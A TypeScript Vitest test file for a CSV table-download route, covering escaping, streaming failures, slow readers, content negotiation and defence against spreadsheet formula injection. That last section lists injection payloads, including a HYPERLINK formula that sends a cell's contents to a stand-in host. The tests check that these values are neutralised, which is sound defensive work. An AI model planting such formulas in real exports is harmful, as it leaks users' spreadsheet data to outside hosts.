import { once } from 'node:events'
import { request } from 'node:http'
import { parse } from 'csv-parse/sync'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { z } from 'zod'
import { contract } from '../../../lib/http/contract.ts'
import { type Row, table, wantsTable } from '../../../lib/http/table.ts'
import { route } from '../../../lib/route.ts'
import { type RunningServer, serveRouter } from '../../../scripts/server/serve.ts'
import { expectProblem } from '../../helpers/call.ts'
import { ask } from './ask.ts'

/** What the route below answers with. */
let rows: () => AsyncIterable<Row>

const GET = route(
  contract({
    id: 'probe',
    method: 'GET',
    path: '/api/probe',
    tag: 'Test',
    summary: 'For tests',
    callers: [],
    database: false,
    responses: { 200: z.unknown() },
    table: true,
  }),
  () => table('things', ['name', 'value'], rows()),
)

async function* each<T>(...values: T[]): AsyncGenerator<T> {
  yield* values
}

/** The text of a table with a row for each value. */
async function written(...values: Row[string][]): Promise<string> {
  rows = () => each(...values.map(value => ({ name: 'a', value })))
  return (await ask(GET, '/api/probe')).body
}

/** What a program that reads the table finds in it. */
async function readBack(...values: Row[string][]): Promise<string[]> {
  const found: Record<string, string>[] = parse(await written(...values), { columns: true, bom: true })
  return found.map(({ value = '' }) => value)
}

describe('a table', () => {
  it('is a download in UTF-8 with a mark, its names in the first row, its lines ended by CR LF', async () => {
    rows = () => each({ name: 'é', value: 1 })
    const response = await GET(new Request('http://127.0.0.1:3000/api/probe'))
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8; header=present')
    expect(response.headers.get('content-disposition')).toBe('attachment; filename="things.csv"')
    expect(response.headers.get('vary')).toContain('Accept')
    expect(response.headers.get('cache-control')).toBe('no-store')
    expect(Buffer.from(await response.arrayBuffer()).toString()).toBe('\ufeffname,value\r\né,1\r\n')
  })

  it('without rows has its names', async () => {
    expect(await written()).toMatch(/^\ufeff?name,value(\r\n)?$/)
  })

  it('writes moments in ISO 8601, truths as words, numbers as they are, and nothing for null', async () => {
    expect(await readBack(new Date(0), true, false, -1.5, 0, null, '')).toEqual([
      '1970-01-01T00:00:00.000Z',
      'true',
      'false',
      '-1.5',
      '0',
      '',
      '',
    ])
  })

  it.each([
    ['quotes', '"', 'say "yes"', '""', '\\"'],
    ['separators', ',', 'a,b', 'a;b', 'a\tb', '"a",b'],
    ['line breaks', 'a\nb', 'a\r\nb', 'a\rb', 'a\n\n\nb', 'end\n', '\u2028'],
    ['what a parser may trim', ' a ', '\u00a0a', "'a'", '# no remark'],
    ['other scripts', 'Ærøskøbing', '東京', '😀', 'a\u0000b', '\ufeffa'],
  ])('gives back %s', async (_name, ...values) => {
    expect(await readBack(...values)).toEqual(values)
  })

  it('writes only its columns, in their order', async () => {
    rows = () => each({ secret: 's', value: 'v', name: 'n' })
    expect(parse((await ask(GET, '/api/probe')).body, { bom: true })).toEqual([
      ['name', 'value'],
      ['n', 'v'],
    ])
  })
})

describe('what a spreadsheet would take for a formula', () => {
  it.each([
    '=1+1',
    '+1',
    '-1+1',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '\n=1',
    '\uff1d1',
    '\uff0b1',
    '\uff0d1',
    '\uff201',
    '=HYPERLINK("http://a.example?"&A1,"b")',
    '="a,b"\n=c',
  ])('begins with an apostrophe: %j', async value => {
    expect(await readBack(value)).toEqual([expect.stringMatching(/^'/)])
  })

  it.each(['a=1', '1-1', 'a@b.example', "'=1", ' =1'])('is not %j', async value => {
    expect(await readBack(value)).toEqual([value])
  })

  it.each([';', '\t'])('nor becomes one where the columns are separated by %j', async delimiter => {
    const values = [
      'a;=1',
      'a;b\n=1',
      'a\r\n@b',
      '"x";+1',
      'a\t=1',
      'a;\uff1d1',
      '-1;-1',
      'a;"=1"',
      'a\n\n- b',
    ]
    const cells: string[][] = parse(await written(...values), {
      bom: true,
      delimiter,
      relax_column_count: true,
      quote: false,
    })
    for (const cell of cells.flat()) expect(cell).not.toMatch(/^"*[=+\-@\uff1d\uff0b\uff0d\uff20]/)
  })

  it('leaves paragraphs and lists of words alone', async () => {
    const text = 'Hello,\n\nwe are three; all new.\r\n\r\nRegards'
    expect(await readBack(text)).toEqual([text])
  })
})

describe('a failure', () => {
  it('before the first row is a problem', async () => {
    rows = async function* () {
      yield* each<Row>()
      throw new Error('no list')
    }
    expectProblem(await ask(GET, '/api/probe'), 500, 'internal')
  })

  it('later breaks the download off', async () => {
    rows = async function* () {
      yield { name: 'first', value: 1 }
      throw new Error('no more')
    }
    await expect(ask(GET, '/api/probe')).rejects.toThrow()
  })
})

describe('over HTTP', () => {
  let server: RunningServer
  beforeAll(async () => {
    const router = { staticDir: import.meta.filename, resolve: async (url: URL) => ({ url, load }) }
    const load = async () => ({ GET })
    server = await serveRouter(router, 0)
  })
  afterAll(() => server.close())

  /** Many rows; `left` resolves once nobody reads them any more. */
  function manyRows() {
    const left = Promise.withResolvers<void>()
    const state = { read: 0, left: left.promise }
    rows = async function* () {
      try {
        for (; state.read < 1_000_000; state.read += 1) yield { name: 'x'.repeat(100), value: state.read }
      } finally {
        left.resolve()
      }
    }
    return state
  }

  async function begin() {
    const sent = request(`${server.url}/api/probe`, { agent: false })
    sent.on('error', () => {})
    sent.end()
    const [response] = await once(sent, 'response')
    await once(response, 'readable')
    return { sent, response }
  }

  it('a failure ends the connection without the end of the file', async () => {
    rows = async function* () {
      for (let i = 0; i < 1_000; i += 1) yield { name: 'x'.repeat(100), value: i }
      throw new Error('no more')
    }
    const answer = await fetch(`${server.url}/api/probe`)
    expect(answer.status).toBe(200)
    await expect(answer.text()).rejects.toThrow()
  })

  it('rows wait for a slow reader, and are left when it goes', async () => {
    const state = manyRows()
    const { sent } = await begin()
    await new Promise(resolve => setTimeout(resolve, 300))
    expect(state.read).toBeLessThan(200_000)
    sent.destroy()
    await state.left
    expect(state.read).toBeLessThan(200_000)
  })
})

describe('a table rather than JSON', () => {
  const BROWSER = 'text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8'

  it.each([
    'text/csv',
    'TEXT/CSV',
    'text/csv; charset=utf-8',
    'text/csv;header=present',
    'text/csv;q=0.9, application/json;q=0.1',
    'application/json;q=0.1, text/csv',
    'text/csv, */*;q=0.1',
    'text/*',
    'text/csv, application/json',
  ])('is what %s asks for', accept => {
    expect(wantsTable({ accept })).toBe(true)
  })

  it.each([
    '',
    '*/*',
    'application/json',
    'application/json, text/csv',
    'application/json, text/csv;q=0.9',
    'application/json, text/plain, */*',
    'text/csv;q=0',
    'text/csv;q=0, */*',
    'text/html',
    'text/csvs',
    'nonsense',
    BROWSER,
  ])('is not what "%s" asks for', accept => {
    expect(wantsTable({ accept })).toBe(false)
  })

  it('is not what nobody asks for', () => {
    expect(wantsTable({})).toBe(false)
  })
})
